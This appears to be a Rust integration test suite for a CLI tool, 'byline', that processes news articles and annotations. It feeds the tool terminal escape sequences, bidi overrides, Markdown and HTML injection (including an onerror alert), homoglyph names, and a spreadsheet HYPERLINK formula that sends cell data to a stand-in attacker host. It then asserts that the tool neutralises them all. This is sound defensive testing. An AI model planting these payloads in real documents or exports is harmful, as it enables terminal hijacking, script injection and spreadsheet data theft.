//! Issue 18, points 1–4 (and 8 in `names`): a stranger's article, annotation
//! and review files, run through the real binary. Nothing they hold may
//! reach a terminal as a control character, add structure to a Markdown
//! report, or run as a formula in a spreadsheet.

use crate::common::{RawRun, assert_clean, texts};
use assert_cmd::Command;
use byline_model::article::Article;
use byline_store as store;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
use std::path::{Path, PathBuf};

type Run = RawRun;

fn run(dir: &Path, args: &[&str]) -> Run {
    let out = Command::cargo_bin("byline")
        .unwrap()
        .current_dir(dir)
        .env("NO_COLOR", "1")
        .env("BYLINE_ANNOTATOR", "Test Annotator")
        .env_remove("BYLINE_FAILPOINTS")
        .args(args)
        .timeout(std::time::Duration::from_secs(60))
        .output()
        .unwrap();
    let r = Run {
        code: out.status.code().unwrap_or(-1),
        stdout: out.stdout,
        stderr: out.stderr,
    };
    assert_ne!(r.code, 101, "byline {args:?} panicked: {}", r.err());
    r
}

fn write(dir: &Path, rel: &str, text: &str) -> PathBuf {
    let p = dir.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(&p, text).unwrap();
    p
}

fn load(p: &Path) -> Article {
    store::article::load(p).unwrap()
}

fn q(s: &str) -> String {
    store::basic(s)
}

// ---- point 1: references decoded first, then controls dropped --------------

const REFS: &str = "The mayor said &#x1b;]0;PWNED&#x7;&#x1b;[2J the plan was &#x9b;31mlate&#127;.";
const RAW: &str = "The mayor said \u{1b}]0;PWNED\u{7}\u{1b}[2J the plan was \u{9b}31mlate\u{7f}.";
const CLEAN: &str = "The mayor said ]0;PWNED[2J the plan was 31mlate.";

fn html_page(title: &str, body: &str) -> String {
    format!(
        "<!doctype html><html><head><meta charset=\"utf-8\"><title>{title}</title></head><body><article><h1>H</h1><p>{body}</p><p>{filler}</p><p>{filler}</p></article></body></html>",
        filler = "Council members met on Tuesday evening to discuss the harbour budget, which officials said had grown by a third since the spring, and to hear residents who spoke for and against the plan at length."
    )
}

#[test]
fn character_references_to_controls_are_dropped_like_raw_controls() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    write(d, "osc.md", &format!("# H\n\n{REFS}\n"));
    write(d, "osc.txt", &format!("H\n\n{RAW}\n"));
    write(d, "osc.html", &html_page("T&#x1b;]0;x&#7;itle", REFS));
    let mut shas = Vec::new();
    for f in ["osc.md", "osc.txt", "osc.html"] {
        let r = run(d, &["text", f, "--format", "json"]);
        assert_eq!(r.code, 0, "{f}: {}", r.err());
        assert_clean(&r.stdout, f);
        let v: serde_json::Value = serde_json::from_slice(&r.stdout).unwrap();
        let paras = texts(&v["paragraphs"], "text");
        if f == "osc.html" {
            // HTML maps `&#x9b;` to `›` (windows-1252), as browsers do.
            assert_eq!(
                paras[..2],
                ["H", CLEAN.replace("31m", "›31m").as_str()],
                "{f}"
            );
            assert_eq!(v["title"], "T]0;xitle");
        } else {
            assert_eq!(paras[..2], ["H", CLEAN], "{f}");
            shas.push(v["sha256"].as_str().unwrap().to_owned());
        }
    }
    // FORMAT.md: the same visible text, the same sha256 and offsets.
    assert_eq!(shas[0], shas[1]);
}

#[test]
fn suggest_prints_through_the_sanitising_layer() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    // The repro.
    write(
        d,
        "osc.md",
        "# H\n\nThe mayor said &#x1b;]0;PWNED&#x7;&#x1b;[2J the plan was late.\n",
    );
    // Bidi controls are text (FORMAT.md keeps them): only the output layer
    // can stop them.
    write(
        d,
        "bidi.txt",
        "The plan was late, Mayor Ruiz\u{202e} said.\n\nAccording to officials at the \u{2066}harbour\u{2069} office, the deal is dead.\n",
    );
    for f in ["osc.md", "bidi.txt"] {
        for format in ["text", "json"] {
            let r = run(d, &["suggest", f, "--format", format]);
            assert_eq!(r.code, 0, "{f} {format}: {}", r.err());
            assert_clean(&r.stdout, &format!("suggest {f} --format {format}"));
            assert_clean(&r.stderr, &format!("suggest {f} --format {format}: stderr"));
        }
    }
    // The characters are shown, not lost.
    let r = run(d, &["suggest", "bidi.txt"]);
    assert!(r.out().contains("\\u{202e}"), "{}", r.out());
    let r = run(d, &["suggest", "bidi.txt", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_slice(&r.stdout).unwrap();
    assert!(v.to_string().contains('\u{202e}'), "{v}");
}

// ---- point 2: bidi controls through `text` ---------------------------------

#[test]
fn text_shows_bidi_controls_escaped_in_both_formats() {
    let tmp = tempfile::tempdir().unwrap();
    let d = tmp.path();
    write(
        d,
        "bidi.txt",
        "Title \u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\n\nBody \u{2066}\u{2067}\u{2068}\u{2069} ends.\n",
    );
    let r = run(d, &["text", "bidi.txt"]);
    assert_eq!(r.code, 0, "{}", r.err());
    assert_clean(&r.stdout, "text");
    assert!(r.out().contains("Title \\u{202a}\\u{202b}"), "{}", r.out());
    assert!(r.out().contains("Body \\u{2066}"), "{}", r.out());
    let r = run(d, &["text", "bidi.txt", "--format", "json"]);
    assert_eq!(r.code, 0, "{}", r.err());
    assert_clean(&r.stdout, "text --format json");
    // JSON escapes them as JSON does: the data is unchanged.
    let v: serde_json::Value = serde_json::from_slice(&r.stdout).unwrap();
    assert_eq!(
        v["paragraphs"][1]["text"],
        "Body \u{2066}\u{2067}\u{2068}\u{2069} ends."
    );
}

// ---- a hostile repository -------------------------------------------------

/// Markdown that would make a heading, a link, an image and raw HTML.
const MD: &str = "\n# Heading\n\n[link](https://evil.example/)![img](https://evil.example/i.png)<img src=x onerror=alert(1)>&#x202e;\n";
/// Breaks out of a code span with a doubled backtick.
const TICKS: &str = "a``<b>bold<i>[l](https:evil.example)``z";
const ESCAPES: &str = "\u{1b}]0;pwned\u{7}\u{9b}31m\u{202e}\u{2066}";
const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"click\")";

struct Repo {
    _tmp: tempfile::TempDir,
    root: PathBuf,
}

impl Repo {
    fn new() -> Repo {
        let tmp = tempfile::tempdir().unwrap();
        let root = tmp.path().join("repo");
        std::fs::create_dir_all(&root).unwrap();
        Repo { _tmp: tmp, root }
    }

    fn run(&self, args: &[&str]) -> Run {
        run(&self.root, args)
    }

    /// `articles/evil.txt`, with escapes and payloads in its words.
    fn article(&self) -> Article {
        let p = write(
            &self.root,
            "articles/evil.txt",
            &format!(
                "Breaking {FORMULA} news{ESCAPES} today\n\nOfficials said the deal was dead, the mayor said. Critics called it a disaster{ESCAPES}.\n\n# Not a heading [l](https://evil.example/) `` code ``\n"
            ),
        );
        load(&p)
    }

    /// An annotator file at `rel` (under `ann/`), its free-text fields set
    /// by `f(field)`; the claims hold their quotes.
    fn annotation(
        &self,
        a: &Article,
        rel: &str,
        name: &str,
        id: &str,
        f: &dyn Fn(&str) -> String,
    ) -> PathBuf {
        let quote = |p: usize, s: usize, e: usize| q(a.paragraphs[p - 1].slice(s, e));
        let text = format!(
            "format = \"byline/1\"\n\n[article]\nid = {id}\ntitle = {title}\npath = \"{up}articles/evil.txt\"\nsha256 = \"{sha}\"\nparagraphs = {n}\noutlet = {outlet}\nurl = {url}\n\n[annotator]\nname = {name}\ndone = 2026-11-26T04:10:00Z\n\n[[claims]]\nid = {cid}\nparagraph = 2\nstart = 0\nend = 14\nquote = {q1}\nkind = \"sourced\"\nsource = {source}\nnote = {note}\ntags = [{tag}]\n\n[[claims]]\nid = \"c2\"\nparagraph = 2\nstart = 20\nend = 28\nquote = {q2}\nkind = \"anonymous\"\nsource = {source2}\n\n[[claims]]\nid = {cid3}\nparagraph = 1\nstart = 0\nend = 8\nquote = {q3}\nkind = \"editorial\"\nstatus = \"needs-review\"\n",
            id = q(id),
            up = "../".repeat(rel.matches('/').count() + 1),
            title = q(&f("Title")),
            sha = a.sha256(),
            n = a.len(),
            outlet = q(&f("Outlet")),
            url = q(&f("https://x.example/")),
            name = q(name),
            cid = q(&f("k1")),
            cid3 = q(&format!("k3{TICKS}")),
            q1 = quote(2, 0, 14),
            q2 = quote(2, 20, 28),
            q3 = quote(1, 0, 8),
            source = q(&f("Officials")),
            source2 = q(&format!("@SUM(1+1){ESCAPES}")),
            note = q(&format!("\t=1+1{ESCAPES}")),
            tag = q(&f("tag")),
        );
        write(&self.root.join("ann"), rel, &text)
    }

    /// A colleague's review of `of` in folder `dir` of `ann/`.
    fn review(
        &self,
        dir: &str,
        of: &str,
        article: &str,
        reviewer: &str,
        comment: &str,
        quote: &str,
    ) {
        write(
            &self.root.join("ann"),
            &format!("{dir}/rev.review.toml"),
            &format!(
                "format = \"byline-review/1\"\n\n[review]\narticle = {art}\nreviewer = {who}\nof = \"{of}\"\n\n[[verdicts]]\nclaim = \"c2\"\nparagraph = 2\nstart = 20\nend = 28\nquote = {quote}\nverdict = \"dispute\"\nkind = \"editorial\"\ncomment = {comment}\n",
                art = q(article),
                who = q(reviewer),
                comment = q(comment),
                quote = q(quote),
            ),
        );
    }
}

/// A repository where every field is hostile: `ann/<TICKS>/` holds two
/// annotators' files (so the report has its overview) and a review.
fn hostile_repo() -> Repo {
    let repo = Repo::new();
    let a = repo.article();
    let dir = format!("x{TICKS}");
    let id = format!("evil{TICKS}");
    let all = |s: &str| format!("{s}{MD}{ESCAPES}{TICKS}");
    repo.annotation(
        &a,
        &format!("{dir}/alex.toml"),
        &format!("Alex{MD}{ESCAPES}"),
        &id,
        &all,
    );
    repo.annotation(
        &a,
        &format!("{dir}/sam.toml"),
        &format!("{FORMULA}{ESCAPES}"),
        &id,
        &|s: &str| format!("{FORMULA}{s}{ESCAPES}"),
    );
    repo.review(
        &dir,
        "alex",
        &id,
        &format!("=Rev(){MD}{ESCAPES}"),
        &format!("-2+3{MD}{ESCAPES}"),
        a.paragraphs[1].slice(20, 28),
    );
    repo
}

/// Renders the Markdown and checks that no field made structure: no link,
/// image or HTML at all (the report has none of its own), no heading but
/// the report's own, every code span whole.
#[track_caller]
fn assert_markdown_inert(md: &str, code_spans: &[&str]) {
    let options = Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH;
    let mut heading: Option<String> = None;
    let mut codes = Vec::new();
    for event in Parser::new_ext(md, options) {
        match event {
            Event::Start(Tag::Link { .. } | Tag::Image { .. } | Tag::HtmlBlock) => {
                panic!("a field made {event:?}:\n{md}")
            }
            Event::Html(h) | Event::InlineHtml(h) => panic!("a field made HTML {h:?}:\n{md}"),
            Event::Start(Tag::Heading { .. }) => heading = Some(String::new()),
            Event::End(TagEnd::Heading(_)) => {
                let h = heading.take().unwrap();
                // The report's headings, and a file's section, `title — name`.
                let own = [
                    "byline export",
                    "Corpus",
                    "By outlet",
                    "By annotator",
                    "Sources across the corpus",
                    "Articles",
                    "Sources",
                    "Paragraphs",
                    "Agreement between annotators",
                ];
                assert!(
                    own.contains(&h.as_str()) || h.contains(" — "),
                    "a field made the heading {h:?}:\n{md}"
                );
            }
            Event::Text(t) | Event::Code(t) if heading.is_some() => {
                heading.as_mut().unwrap().push_str(&t)
            }
            Event::Code(t) => codes.push(t.into_string()),
            _ => {}
        }
    }
    for want in code_spans {
        assert!(
            codes.iter().any(|c| c.contains(want)),
            "no code span holds {want:?} whole: {codes:?}\n{md}"
        );
    }
}

/// No cell a spreadsheet would run: none begins with `=`, `+`, `-`, `@`,
/// tab or CR unless it is a plain number.
#[track_caller]
fn assert_no_formula(csv_text: &str, what: &str) {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv_text.as_bytes());
    let mut cells = 0;
    for rec in r.records() {
        for cell in rec.unwrap().iter() {
            cells += 1;
            let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
            assert!(
                !risky || cell.parse::<f64>().is_ok(),
                "{what}: formula cell {cell:?}"
            );
        }
    }
    assert!(cells > 0, "{what}: no cells");
}

fn cells(csv_text: &str) -> Vec<String> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv_text.as_bytes())
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect()
}

// ---- point 3: Markdown export ----------------------------------------------

#[test]
fn markdown_export_fields_cannot_add_structure() {
    let repo = hostile_repo();
    let r = repo.run(&["export", "ann"]);
    assert_eq!(r.code, 0, "{}", r.err());
    let md = r.out();
    // Each field is still there, escaped (the reviewer and the overview's
    // `Done (…)` line included), and each code span holds its whole value.
    assert!(md.contains("**Reviewed by =Rev() \\# Heading"), "{md}");
    assert!(md.contains("Done (articles marked done"), "{md}");
    assert_markdown_inert(
        &md,
        &[
            &format!("evil{TICKS}"),
            &format!("x{TICKS}/"),
            &format!("k3{TICKS}"),
        ],
    );
    // One file alone: its section is the whole report.
    let r = repo.run(&["export", &format!("ann/x{TICKS}/alex.toml")]);
    assert_eq!(r.code, 0, "{}", r.err());
    assert_markdown_inert(&r.out(), &[&format!("evil{TICKS}"), &format!("k3{TICKS}")]);
}

// ---- point 4: CSV formulas -------------------------------------------------

#[test]
fn csv_cells_a_spreadsheet_would_run_get_a_quote_unless_csv_raw() {
    let repo = hostile_repo();
    let variants: [&[&str]; 3] = [&[], &["--claims"], &["--verdicts"]];
    for extra in variants {
        let mut args = vec!["export", "ann", "--format", "csv"];
        args.extend(extra);
        let r = repo.run(&args);
        assert_eq!(r.code, 0, "{args:?}: {}", r.err());
        let text = r.out();
        assert_no_formula(&text, &format!("{args:?}"));
        // Neutralised, not dropped: the cell reads as the text it was.
        let got = cells(&text);
        let want = match extra {
            [] => format!("'{FORMULA}Title"),
            ["--claims"] => "'@SUM(1+1)".to_owned(),
            _ => "'=Rev()".to_owned(),
        };
        assert!(
            got.iter().any(|c| c.starts_with(&want)),
            "{args:?}: no cell starts {want:?}: {got:?}"
        );
        // Numbers stay numbers.
        assert!(got.iter().any(|c| c == "2"), "{got:?}");
        // --csv-raw keeps the bytes.
        args.push("--csv-raw");
        let r = repo.run(&args);
        assert_eq!(r.code, 0, "{args:?}: {}", r.err());
        let raw = cells(&r.out());
        let want = want.strip_prefix('\'').unwrap();
        assert!(
            raw.iter().any(|c| c.starts_with(want)),
            "{args:?}: no raw cell starts {want:?}: {raw:?}"
        );
    }
}

// ---- every command and format on the hostile repository --------------------

#[test]
fn the_hostile_corpus_through_suggest_text_and_every_export_format() {
    let repo = hostile_repo();
    write(
        &repo.root,
        "articles/evil.md",
        &format!(
            "# {REFS}\n\n{REFS} said the mayor, \u{202e}officials said.\n\n[x](https://evil.example/) {ESCAPES}\n"
        ),
    );
    write(
        &repo.root,
        "articles/evil.html",
        &html_page(REFS, &format!("{REFS} \u{202e} the mayor said")),
    );
    for f in [
        "articles/evil.txt",
        "articles/evil.md",
        "articles/evil.html",
    ] {
        for cmd in ["suggest", "text"] {
            for format in ["text", "json"] {
                let r = repo.run(&[cmd, f, "--format", format]);
                assert_eq!(r.code, 0, "{cmd} {f} {format}: {}", r.err());
                assert_clean(&r.stdout, &format!("{cmd} {f} --format {format}"));
                assert_clean(&r.stderr, &format!("{cmd} {f} --format {format}: stderr"));
            }
        }
    }
    let exports: [&[&str]; 10] = [
        &["--format", "markdown"],
        &["--format", "json"],
        &["--format", "csv"],
        &["--format", "html"],
        &["--format", "w3c"],
        &["--format", "jsonl"],
        &["--format", "csv", "--claims"],
        &["--format", "csv", "--verdicts"],
        &["--format", "json", "--claims"],
        &["--format", "json", "--verdicts"],
    ];
    for extra in exports {
        let mut args = vec!["export", "ann"];
        args.extend(extra);
        let r = repo.run(&args);
        assert_eq!(r.code, 0, "{args:?}: {}", r.err());
        assert!(!r.stdout.is_empty(), "{args:?} printed nothing");
        assert_clean(&r.stdout, &format!("{args:?}"));
        assert_clean(&r.stderr, &format!("{args:?}: stderr"));
        if extra.contains(&"csv") {
            assert_no_formula(&r.out(), &format!("{args:?}"));
        }
        if extra == ["--format", "markdown"] {
            assert_markdown_inert(&r.out(), &[]);
        }
    }
    let brat = repo.root.join("brat");
    let r = repo.run(&[
        "export",
        "ann",
        "--format",
        "brat",
        "-o",
        brat.to_str().unwrap(),
    ]);
    assert_eq!(r.code, 0, "{}", r.err());
    assert_clean(&r.stderr, "brat: stderr");
    let mut files = 0;
    for e in walkdir::WalkDir::new(&brat) {
        let e = e.unwrap();
        if e.file_type().is_file() {
            files += 1;
            // Data for another tool, not for a terminal: the text keeps
            // its bidi characters (offsets count them), but no control.
            let text = std::fs::read_to_string(e.path()).unwrap();
            assert!(
                !text
                    .chars()
                    .any(|c| c.is_control() && c != '\n' && c != '\t'),
                "{}: {text:?}",
                e.path().display()
            );
        }
    }
    assert!(files > 0);
}

/// Issue 18, point 8: "Alex Example" and "Аlex Example" (a Cyrillic А), or
/// a name with a zero-width space, read as one person in a report. Reports
/// show the odd characters escaped, `check` warns, the file is unchanged.
#[test]
fn look_alike_names_are_told_apart_and_check_warns() {
    let dir = tempfile::tempdir().unwrap();
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let article =
        std::fs::read_to_string(root.join("examples/articles/harbor-council.txt")).unwrap();
    write(dir.path(), "examples/articles/harbor-council.txt", &article);
    let real =
        std::fs::read_to_string(root.join("annotations/harbor-council/alex-example.toml")).unwrap();
    write(
        dir.path(),
        "annotations/harbor-council/alex-example.toml",
        &real,
    );
    let fake = real.replace("name = \"Alex Example\"", "name = \"\u{410}lex Example\"");
    let fake_file = write(
        dir.path(),
        "annotations/harbor-council/alex-example-2.toml",
        &fake,
    );
    let hidden = real.replace("name = \"Alex Example\"", "name = \"Alex\u{200b} Example\"");
    write(
        dir.path(),
        "annotations/harbor-council/alex-example-3.toml",
        &hidden,
    );

    let md = run(
        dir.path(),
        &["export", "annotations", "--format", "markdown"],
    )
    .out();
    assert!(md.contains("| Alex Example |"), "{md}");
    assert!(
        md.contains("u{410}lex Example"),
        "the Cyrillic А is shown: {md}"
    );
    assert!(
        md.contains("Alex\\\\u{200b} Example") || md.contains("Alex\\u{200b} Example"),
        "{md}"
    );
    let html = run(dir.path(), &["export", "annotations", "--format", "html"]).out();
    assert!(
        html.contains("\\u{410}lex Example"),
        "the HTML shows it too"
    );

    let check = run(dir.path(), &["check", fake_file.to_str().unwrap()]);
    assert_eq!(check.code, 0, "a warning, not a failure: {}", check.err());
    let out = check.out();
    assert!(out.contains("warning: the annotator name"), "{out}");
    assert!(out.contains("Latin and Cyrillic"), "{out}");
    assert_eq!(
        std::fs::read_to_string(&fake_file).unwrap(),
        fake,
        "the file is unchanged"
    );
    // A plain name gives no warning.
    let plain = run(
        dir.path(),
        &["check", "annotations/harbor-council/alex-example.toml"],
    );
    assert!(!plain.out().contains("warning"), "{}", plain.out());
}
